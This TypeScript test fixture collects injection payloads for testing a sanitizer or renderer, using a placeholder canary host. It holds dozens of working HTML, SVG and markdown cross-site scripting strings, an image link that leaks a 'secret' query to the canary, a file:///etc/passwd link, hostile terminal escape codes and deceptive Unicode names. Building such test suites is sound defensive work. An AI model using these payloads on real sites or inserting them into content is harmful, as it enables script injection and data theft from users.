/** Text that tries to be more than text. A success sets `window.__pwn`, opens a dialog, or asks the canary host. */

/** Nobody answers there. */
export const CANARY = "canary.invalid";
/** What a payload runs. */
export const INLINE = "window.__pwn=1";

const RUN = "alert(window.__pwn=1)";

/** Markup, by the way it gets in. */
const MARKUP = [
  `<script>${RUN}</script>`,
  `<script src=//${CANARY}/s.js></script>`,
  `<ScRiPt >${RUN}</sCrIpT >`,
  `<img src=x onerror=${INLINE}>`,
  `<img src=x onerror=${INLINE}//`,
  `<img src="//${CANARY}/i" srcset="//${CANARY}/j 2x">`,
  `<img/src="x"/onerror="${INLINE}">`,
  `<svg onload=${INLINE}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${INLINE} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
  `<svg><style><img src=x onerror=${INLINE}></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${INLINE}&gt;">`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${INLINE}></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${INLINE}>`,
  `<noscript><p title="</noscript><img src=x onerror=${INLINE}>">`,
  `<template><img src=x onerror=${INLINE}></template>`,
  `<iframe srcdoc="<script>parent.${INLINE}</script>"></iframe>`,
  `<iframe src="javascript:parent.${INLINE}"></iframe>`,
  `<iframe src="https://${CANARY}/f"></iframe>`,
  `<object data="javascript:${INLINE}"></object>`,
  `<embed src="javascript:${INLINE}">`,
  `<details open ontoggle=${INLINE}>`,
  `<input autofocus onfocus=${INLINE}>`,
  `<body onload=${INLINE}>`,
  `<video><source onerror=${INLINE}></video>`,
  `<audio src=x onerror=${INLINE}>`,
  `<marquee onstart=${INLINE}>`,
  `<a href="javascript:${INLINE}" autofocus onfocus=${INLINE}>x</a>`,
  `<a href="&#106;avascript:${INLINE}">x</a>`,
  `<base href="https://${CANARY}/">`,
  `<link rel=stylesheet href="https://${CANARY}/c.css">`,
  `<link rel=prefetch href="https://${CANARY}/p">`,
  `<meta http-equiv=refresh content="0;url=https://${CANARY}/r">`,
  `<style>@import url(https://${CANARY}/c.css);*{background:url(https://${CANARY}/b)}</style>`,
  `<div style="background:url(https://${CANARY}/d);position:fixed;inset:0;z-index:99999">x</div>`,
  `<form action="https://${CANARY}/" method=post><button autofocus>x</button></form>`,
  `</textarea></title></style></script><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'-${INLINE}-'`,
  `\${${RUN}}{{constructor.constructor('${RUN}')()}}`,
  `<!--><img src=x onerror=${INLINE}>-->`,
  `<![CDATA[><script>${RUN}</script>]]>`,
  `\u0000<img src=x onerror=${INLINE}>`,
  `<img src=x onerror\u0000=${INLINE}>`,
  `&lt;img src=x onerror=${INLINE}&gt;`,
  `<x id=session-page data-testid=session-page>`,
  `<img name=cookie><form id=body><input name=innerHTML></form>`,
] as const;

/** Markdown that leads somewhere. */
const MARKDOWN = [
  `[x](javascript:${INLINE})`,
  `[x](JaVaScRiPt:${INLINE})`,
  `[x](\u0001javascript:${INLINE})`,
  `[x](java\nscript:${INLINE})`,
  `[x](&#x6A;avascript:${INLINE})`,
  `[x](data:text/html,<script>${RUN}</script>)`,
  `[x](vbscript:msgbox(1))`,
  `[x](file:///etc/passwd) [x](//${CANARY}/l)`,
  `![secret](https://${CANARY}/?q=secret)`,
  `![x](https://${CANARY}/i "onerror=${INLINE}")`,
  `![x][r]\n\n[r]: https://${CANARY}/r`,
  `[x]: javascript:${INLINE}\n\n[x]`,
  `<javascript:${INLINE}>`,
  `<https://${CANARY}/auto>`,
  `[x](https://a '" onmouseover=${INLINE} "')`,
  `[![x](https://${CANARY}/n)](javascript:${INLINE})`,
  `- [ ] <img src=x onerror=${INLINE}>`,
  `| a |\n|---|\n| <img src=x onerror=${INLINE}> |`,
  `# <img src=x onerror=${INLINE}>`,
  `\`\`\`"><img src=x onerror=${INLINE}>\ncode\n\`\`\``,
  `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${INLINE}>"]\n\`\`\``,
  `$$\\href{javascript:${INLINE}}{x}$$`,
  `[^1]: <script>${RUN}</script>\n\n[^1]`,
  "*_`[".repeat(2000),
  "(".repeat(5000),
  `${"> ".repeat(500)}deep`,
  `${"- ".repeat(300)}deep`,
  `| ${"a | ".repeat(300)}\n|${"---|".repeat(300)}\n| ${"b | ".repeat(300)}`,
] as const;

export const PAYLOADS: readonly string[] = [...MARKUP, ...MARKDOWN];

/** Codes that a terminal obeys. */
export const TERMINAL: readonly string[] = [
  `\u001b]8;;javascript:${INLINE}\u0007click\u001b]8;;\u0007`,
  `\u001b]8;;https://${CANARY}/o\u001b\\click\u001b]8;;\u001b\\`,
  "\u001b]52;c;aGVsbG8=\u0007",
  "\u001b]0;title",
  "\u001bPq#0;2;0;0;0\u001b\\",
  "\u001b[2J\u001b[H\u001b[1000A\u001b[?1049h gone",
  `${"\u001b[31;1;4;38;5;200;48;2;1;2;3m".repeat(2000)}loud`,
  "\u001b[31mred and never closed",
  "\u001b[8mhidden\u001b[5mblink",
  "back\b\b\b\bspace\rreturn\u0007bell\u0000nul\u007fdel\u009b31mc1",
  `\u001b[31m<img src=x onerror=${INLINE}>\u001b[0m`,
];

/** Names that turn, hide or stretch what stands beside them. */
export const TWISTED: readonly string[] = [
  "safe\u202Egpj.exe",
  "\u2066\u2067isolate\u200B\u200D\uFEFF\u2060",
  "раураl",
  "one\ntwo\ttab",
  "Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324a".repeat(20),
  `long${"w".repeat(600)}`,
  "\u{1F468}\u200D\u{1F469}\u200D\u{1F467}".repeat(30),
  "\uD800 lone",
];
